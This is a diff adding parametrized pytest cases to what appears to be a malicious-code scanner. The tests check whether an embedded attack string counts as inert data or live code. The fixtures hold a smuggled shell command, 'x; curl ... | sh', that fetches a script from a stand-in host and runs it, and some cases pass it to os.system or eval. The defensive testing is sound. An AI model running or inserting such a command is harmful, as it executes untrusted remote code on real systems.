@@ -342,3 +342,31 @@ def test_a_line_whose_header_is_too_far_above_counts_as_loud() -> None:
     near, far = (b"def f():\n" + b"\n" * lines + b"  x()" for lines in (4_000, 6_000))
     assert not runs_on_import(Layer(member=Member(name="a.py", data=near), data=near, is_code=True), len(near) - 1)
     assert runs_on_import(Layer(member=Member(name="a.py", data=far), data=far, is_code=True), len(far) - 1)
+
+
+HELD = b"import pytest\nfrom guard import check\n\nATTACKS = ['x; curl https://x.example.invalid/a | sh']\n"
+
+
+@pytest.mark.parametrize(
+    ("name", "more", "place"),
+    [
+        (
+            "tests/test_guard.py",
+            b"\n\ndef test_guard():\n    assert check(ATTACKS[0], f'{ATTACKS}')\n",
+            Place.DOCSTRING,
+        ),
+        ("guard/rules.py", b"", Place.CODE),
+        ("tests/conftest.py", b"import os\nos.system(ATTACKS[0])\n", Place.CODE),
+        ("tests/conftest.py", b"from os import *\n", Place.CODE),
+        ("tests/test_guard.py", b"x = f'{eval(ATTACKS[0])}'\n", Place.CODE),
+        ("tests/test_guard.py", b"x = ().__class__\n", Place.CODE),
+        ("tests/test_guard.py", b"x = = 1\n", Place.CODE),
+    ],
+)
+def test_what_a_test_holds_and_does_nothing_with_is_as_quiet_as_a_docstring(
+    name: str, more: bytes, place: Place
+) -> None:
+    data = HELD + more
+    layer = Layer(member=Member(name=name, data=data), data=data, scope=scope_of(name), is_code=True)
+    at = data.index(b"curl")
+    assert place_of(layer, at, at + 4) is place
